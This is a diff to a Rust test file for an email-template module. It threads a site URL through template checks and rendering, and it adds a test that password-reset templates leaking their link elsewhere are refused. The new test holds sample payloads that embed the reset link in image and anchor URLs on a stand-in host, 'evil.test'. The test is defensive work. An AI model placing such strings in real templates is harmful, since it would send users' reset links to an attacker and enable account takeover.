@@ -2,6 +2,10 @@
 
 use crate::mail::{Kind, Problem, TemplateError, Values, check, render};
 
+fn site() -> url::Url {
+    "https://sabi.example".parse().unwrap()
+}
+
 fn values() -> Values {
     Values::default().text("name", "Ada").text("empty", "").text("link", "https://sabi.example/a?b=1&c=2")
 }
@@ -177,8 +181,8 @@ fn elements_a_hundred_deep_are_refused_and_siblings_are_not() {
 fn the_templates_as_they_come() {
     for kind in Kind::ALL {
         assert_eq!(Kind::from_slug(kind.slug()), Some(kind));
-        assert_eq!(kind.check(kind.subject(), kind.content()), [], "{kind:?}");
-        let mail = kind.render(kind.subject(), kind.content(), &kind.samples()).unwrap();
+        assert_eq!(kind.check(kind.subject(), kind.content(), &site()), [], "{kind:?}");
+        let mail = kind.render(kind.subject(), kind.content(), &site(), &kind.samples()).unwrap();
         assert!(!mail.html.contains("http-equiv") && !mail.html.contains("<script"), "{kind:?}");
         insta::assert_snapshot!(kind.slug(), format!("Subject: {}\n\n{}\n{}", mail.subject, mail.text, mail.html));
     }
@@ -189,14 +193,25 @@ fn the_templates_as_they_come() {
 fn a_receipt_names_university_and_reference_where_there_are_any() {
     let kind = Kind::SubscriptionReceipt;
     let values = kind.samples().text("university", "").text("reference", "");
-    let text = kind.render(kind.subject(), kind.content(), &values).unwrap().text;
+    let text = kind.render(kind.subject(), kind.content(), &site(), &values).unwrap().text;
     assert!(text.contains("* Exam: POST UTME\n* Paid: NGN 2,500 on 2 March 2026\n"), "{text}");
 }
 
 #[test]
 fn activation_and_reset_need_their_link() {
     for kind in [Kind::Activation, Kind::PasswordReset] {
-        let problems = kind.check("S", "<p>Hello {{ first_name }}</p>");
+        let problems = kind.check("S", "<p>Hello {{ first_name }}</p>", &site());
         assert_eq!(problems.iter().map(|problem| problem.placeholder.as_deref()).collect::<Vec<_>>(), [Some("link")]);
+    }
+}
+
+#[test]
+fn a_template_that_is_older_than_the_rule_sends_no_link_elsewhere() {
+    for content in
+        ["<img src=\"https://evil.test/{{ link }}\">", "<a href=\"https://evil.test/{{ link }}\">x</a>", "{{ link }}"]
+    {
+        let kind = Kind::PasswordReset;
+        let refused = kind.render("S", content, &site(), &kind.samples());
+        assert!(matches!(refused, Err(TemplateError::Template(_))), "{content}");
     }
 }
